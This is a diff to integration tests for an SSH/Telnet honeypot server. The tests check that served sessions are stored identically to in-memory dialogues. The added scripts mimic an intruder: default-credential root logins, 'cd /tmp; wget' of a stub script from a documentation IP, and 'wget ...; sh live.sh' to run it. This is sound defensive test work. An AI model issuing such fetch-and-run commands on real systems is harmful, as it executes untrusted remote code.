@@ -2,11 +2,14 @@
 //! [`serve::Server`], with the resulting store read back through
 //! `sessiondb`.
 
+use honeypot::wire::{run_telnet_session, run_wire_session, WireSessionMeta};
+use honeypot::{AuthPolicy, SessionRecord};
 use serve::{fold_peer_ip, ChaosConfig, Gate, ServeConfig, ServeStats, Server};
 use sshwire::{ClientScript, SshClient};
 use std::io::{Read, Write};
 use std::net::{SocketAddr, TcpStream};
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
 use std::time::{Duration, Instant};
 use telwire::{TelnetClient, TelnetScript};
 
@@ -14,6 +17,48 @@ fn temp_store(name: &str) -> PathBuf {
     let dir = std::env::temp_dir().join(format!("serve-live-{}-{name}", std::process::id()));
     let _ = std::fs::remove_dir_all(&dir);
     dir
+}
+
+/// The one payload the live scripts download.
+const PAYLOAD_URI: &str = "http://203.0.113.5/live.sh";
+
+/// The download store of the live-vs-wire tests: serves [`PAYLOAD_URI`].
+fn payloads(uri: &str) -> Option<Vec<u8>> {
+    (uri == PAYLOAD_URI).then(|| b"#!/bin/sh\necho live\n".to_vec())
+}
+
+/// Identity for the in-memory dialogues; the comparison leaves out the
+/// fields it stamps.
+fn wire_meta() -> WireSessionMeta {
+    WireSessionMeta {
+        honeypot_id: 0,
+        honeypot_ip: netsim::Ipv4Addr::from_octets(100, 64, 0, 1),
+        client_ip: netsim::Ipv4Addr::from_octets(127, 0, 0, 1),
+        client_port: 40000,
+        start: hutil::Date::new(2024, 1, 1).at_midnight(),
+    }
+}
+
+/// Every record in the store at `dir`, CRC-checked.
+fn read_store(dir: &Path) -> Vec<SessionRecord> {
+    let store = sessiondb::Store::open(dir).expect("open store");
+    store
+        .scan()
+        .records()
+        .collect::<Result<_, _>>()
+        .expect("intact CRCs")
+}
+
+/// A served record must carry what the in-memory wire dialogue records for
+/// the same script and download store: the handler and the conversion
+/// are one.
+fn assert_live_equals_wire(live: &SessionRecord, wire: &SessionRecord) {
+    assert_eq!(live.protocol, wire.protocol);
+    assert_eq!(live.client_version, wire.client_version);
+    assert_eq!(live.logins, wire.logins);
+    assert_eq!(live.commands, wire.commands);
+    assert_eq!(live.uris, wire.uris);
+    assert_eq!(live.file_events, wire.file_events);
 }
 
 fn read_step(stream: &mut TcpStream, buf: &mut [u8]) -> Option<usize> {
@@ -93,20 +138,24 @@ fn ssh_sessions_round_trip_to_store() {
         rows_per_segment: 4, // several segments from 10 sessions
         ..ServeConfig::default()
     };
-    let handle = Server::start(cfg).expect("start");
+    let handle = Server::start_with_store(cfg, Arc::new(payloads)).expect("start");
     let addr = handle.addrs().ssh.expect("ssh addr");
 
+    let script = |i: u64| {
+        ClientScript::new(
+            "root",
+            &["root", "admin"],
+            &[
+                &format!("echo probe-{i}"),
+                "uname -a",
+                &format!("cd /tmp; wget {PAYLOAD_URI}"),
+            ],
+        )
+    };
     let n = 10;
     std::thread::scope(|scope| {
         for i in 0..n {
-            scope.spawn(move || {
-                let script = ClientScript::new(
-                    "root",
-                    &["root", "admin"],
-                    &[&format!("echo probe-{i}"), "uname -a"],
-                );
-                drive_ssh(addr, script);
-            });
+            scope.spawn(move || drive_ssh(addr, script(i)));
         }
     });
 
@@ -124,24 +173,30 @@ fn ssh_sessions_round_trip_to_store() {
     assert!(report.snapshot.bytes_in > 500 * n, "real bytes moved");
 
     // CRC-checked read-back through the columnar store.
-    let store = sessiondb::Store::open(&dir).expect("open store");
-    let recs: Vec<_> = store
-        .scan()
-        .records()
-        .collect::<Result<_, _>>()
-        .expect("intact CRCs");
+    let recs = read_store(&dir);
     assert_eq!(recs.len(), n as usize);
     for rec in &recs {
         assert_eq!(rec.protocol, honeypot::Protocol::Ssh);
         assert!(rec.login_succeeded(), "root/admin is accepted");
         assert_eq!(rec.logins.len(), 2);
-        assert_eq!(rec.commands.len(), 2);
+        assert_eq!(rec.commands.len(), 3);
         assert!(rec
             .client_version
             .as_deref()
             .unwrap_or("")
             .starts_with("SSH-2.0"));
         assert!(rec.end >= rec.start);
+        // Live == wire, record by record: the script is known by its
+        // first command.
+        let i = rec.commands[0]
+            .input
+            .strip_prefix("echo probe-")
+            .and_then(|i| i.parse().ok())
+            .expect("a scripted first command");
+        let (wire, _) = run_wire_session(&wire_meta(), script(i), AuthPolicy::default(), &payloads)
+            .expect("in-memory dialogue");
+        assert_live_equals_wire(rec, &wire);
+        assert_eq!(rec.uris, [PAYLOAD_URI], "the download is recorded");
     }
     // Dense ids, one per session.
     let mut ids: Vec<u64> = recs.iter().map(|r| r.session_id).collect();
@@ -152,14 +207,16 @@ fn ssh_sessions_round_trip_to_store() {
 
 #[test]
 fn telnet_sessions_are_served_too() {
+    let dir = temp_store("telnet");
     let cfg = ServeConfig {
         ssh_port: None,
         telnet_port: Some(0),
+        store_dir: Some(dir.clone()),
         workers: 2,
         stats_interval: None,
         ..ServeConfig::default()
     };
-    let handle = Server::start(cfg).expect("start");
+    let handle = Server::start_with_store(cfg, Arc::new(payloads)).expect("start");
     let addr = handle.addrs().telnet.expect("telnet addr");
 
     let script = TelnetScript {
@@ -167,9 +224,13 @@ fn telnet_sessions_are_served_too() {
             ("root".into(), "root".into()), // rejected by policy
             ("root".into(), "hunter2".into()),
         ],
-        commands: vec!["cd /tmp".into(), "id".into()],
+        commands: vec![
+            "cd /tmp".into(),
+            "id".into(),
+            format!("wget {PAYLOAD_URI}; sh live.sh"),
+        ],
     };
-    drive_telnet(addr, script);
+    drive_telnet(addr, script.clone());
 
     let deadline = Instant::now() + Duration::from_secs(10);
     while handle.stats().completed < 1 && Instant::now() < deadline {
@@ -178,6 +239,14 @@ fn telnet_sessions_are_served_too() {
     let report = handle.join().expect("join");
     assert_eq!(report.snapshot.completed, 1);
     assert_eq!(report.ingest.accepted, 1);
+
+    let recs = read_store(&dir);
+    assert_eq!(recs.len(), 1);
+    let (wire, _) = run_telnet_session(&wire_meta(), script, AuthPolicy::default(), &payloads)
+        .expect("in-memory dialogue");
+    assert_live_equals_wire(&recs[0], &wire);
+    assert_eq!(recs[0].uris, [PAYLOAD_URI], "the download is recorded");
+    let _ = std::fs::remove_dir_all(&dir);
 }
 
 #[test]
